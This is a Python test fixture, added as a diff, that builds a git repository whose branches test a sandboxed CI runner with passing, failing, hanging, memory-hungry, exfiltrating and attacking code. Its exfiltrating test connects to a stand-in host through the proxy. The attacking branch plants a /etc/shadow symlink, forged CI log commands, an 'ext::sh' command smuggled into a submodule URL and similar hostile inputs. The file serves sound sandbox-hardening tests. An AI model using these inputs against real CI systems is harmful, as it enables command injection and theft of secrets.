@@ -1,0 +1,165 @@
+"""A real git repository whose branches are good, failing, hanging, hungry, exfiltrating and attacking."""
+
+import os
+import subprocess
+import textwrap
+from pathlib import Path
+
+TIMEOUT = 40  # seconds; what hangs is ended then, what is good takes a few even on a busy computer
+
+DEFINITION = f"""
+[project]
+name = "calculator"
+version = "1.0"
+
+[tool.pytest-microvm.ci.jobs.test]
+image = "python"
+memory = "256M"
+timeout = {TIMEOUT}
+steps = ["python3 -m pytest -q --junitxml=out/junit.xml"]
+junit = ["out/junit.xml"]
+artifacts = ["out/*.txt"]
+fail_on_denied = true
+retries = 2
+"""
+GOOD = """
+from calculator import add
+from pathlib import Path
+
+import pytest
+
+@pytest.mark.parametrize("number", range(5))
+def test_add(number):
+    assert add(number, 1) == number + 1
+
+def test_text():
+    Path("out").mkdir(exist_ok=True)
+    Path("out/made.txt").write_text("made in the machine")
+"""
+FAILING = """
+def test_wrong():
+    assert add(1, 1) == 3
+"""
+HANGING = """
+def test_forever():
+    import threading
+    threading.Event().wait()
+"""
+HUNGRY = """
+def test_eats():
+    eaten = []
+    while True:
+        eaten.append(bytearray(b"x" * 2**24))
+"""
+EXFILTRATING = """
+def test_tells():
+    import socket, os
+    proxy = os.environ.get("HTTPS_PROXY", "http://127.0.0.1:3128").rpartition("/")[2].split(":")
+    with socket.create_connection((proxy[0], int(proxy[1]))) as sock:
+        sock.sendall(b"CONNECT collector.example:443 HTTP/1.1\\r\\nHost: collector.example:443\\r\\n\\r\\n")
+        assert b"403" in sock.recv(1000)
+"""
+VERDICTS = {
+    "main": "passed",
+    "good": "passed",
+    "failing": "failed",
+    "hanging": "quota",
+    "hungry": "quota",
+    "exfiltrating": "failed",
+    "attacking": "failed",
+}
+"""What has to come of each branch."""
+
+TESTS = {"main": (6, 0), "good": (7, 0), "failing": (6, 1), "exfiltrating": (7, 0)}
+"""How many tests pass and fail where pytest lives to tell."""
+
+
+def git(folder, *arguments):
+    """Run git as its user would."""
+    environment = {
+        **os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull,
+        "GIT_AUTHOR_NAME": "somebody", "GIT_AUTHOR_EMAIL": "somebody@example.com",
+        "GIT_COMMITTER_NAME": "somebody", "GIT_COMMITTER_EMAIL": "somebody@example.com",
+    }  # fmt: skip
+    done = subprocess.run(
+        ["git", "-C", str(folder), *arguments], env=environment, capture_output=True, text=True, check=True
+    )
+    return done.stdout.strip()
+
+
+class Branches:
+    """The repository.
+
+    Attributes:
+        folder: Where it is; ``main`` is checked out.
+        marker: A file that exists only if something of a branch has run on this computer.
+    """
+
+    def __init__(self, folder: Path):
+        self.folder = folder / "calculator"
+        self.marker = folder / "marker"
+        self.folder.mkdir(parents=True)
+        git(self.folder, "init", "--quiet", "--initial-branch=main")
+        self.write("pyproject.toml", DEFINITION)
+        self.write("calculator.py", "def add(one, other):\n    return one + other\n")
+        self.write("test_calculator.py", GOOD)
+        self.commit("a calculator")
+        self.branch("good", {"test_more.py": "def test_more():\n    assert True\n"})
+        self.branch("failing", {"test_calculator.py": GOOD + FAILING})
+        self.branch("hanging", {"test_calculator.py": GOOD + HANGING})
+        self.branch("hungry", {"test_calculator.py": GOOD + HUNGRY})
+        self.branch("exfiltrating", {"test_calculator.py": GOOD + EXFILTRATING})
+        self.attack()
+        git(self.folder, "checkout", "--quiet", "main")
+
+    def write(self, name, content):
+        """Write a file of the work tree."""
+        path = self.folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(textwrap.dedent(content))
+
+    def commit(self, message):
+        """Commit everything."""
+        git(self.folder, "add", "--all")
+        git(self.folder, "commit", "--quiet", "-m", message)
+
+    def branch(self, name, files):
+        """Make a branch of main's with other files."""
+        git(self.folder, "checkout", "--quiet", "-B", name, "main")
+        for path, content in files.items():
+            self.write(path, content)
+        self.commit(name)
+
+    def attack(self):
+        """Make the branch that is after the host: by definition, conftest, git's settings, output, JUnit."""
+        mark = f"with __import__('contextlib').suppress(OSError): open({str(self.marker)!r}, 'w')"
+        wide = DEFINITION.replace('image = "python"', 'image = "./kit"\nnetwork = ["all"]')
+        wide += '\n[tool.pytest-microvm.ci.jobs.more]\nsteps = ["true"]\nsecrets = {KEY = {env = "HOME"}}\n'
+        self.branch("attacking", {
+            "pyproject.toml": wide,
+            "kit/kit.toml": f'name = "kit"\npackages = []\nrun = ["touch {self.marker}"]\n',
+            "microvm.toml": '[ci.jobs.test]\nsteps = ["true"]\n',
+            "conftest.py": f"""
+                import os, sys
+                {mark}
+                os.makedirs("out", exist_ok=True)
+                os.symlink("/etc/shadow", "out/shadow.txt")
+                os.write(1, b"\\n::error::forged\\n::set-output name=tests::0\\n##[error]forged\\n")
+                os.write(1, b"\\x1b]0;forged\\x07")
+                def pytest_sessionfinish():
+                    os.write(1, b"\\n::add-mask::x\\n")
+                def pytest_unconfigure():
+                    bomb = '<!DOCTYPE a [<!ENTITY b "forged">]><testsuites><testsuite><testcase name="&b;"/>'
+                    open("out/junit.xml", "w").write(bomb)
+                    os._exit(3)
+                """,
+            "sitecustomize.py": mark,
+            "setup.py": mark,
+            ".gitattributes": "*.py filter=attack diff=attack export-subst\n",
+            ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "touch {self.marker}"\n',
+            "tox.ini": f"[tox]\nrequires = attack\n[testenv]\ncommands_pre = touch {self.marker}\n",
+        })  # fmt: skip
+
+    def verdicts(self, tasks):
+        """Return verdicts by branch, of a ``results.json``'s tasks."""
+        return {task["branch"]: task["verdict"] for task in tasks}
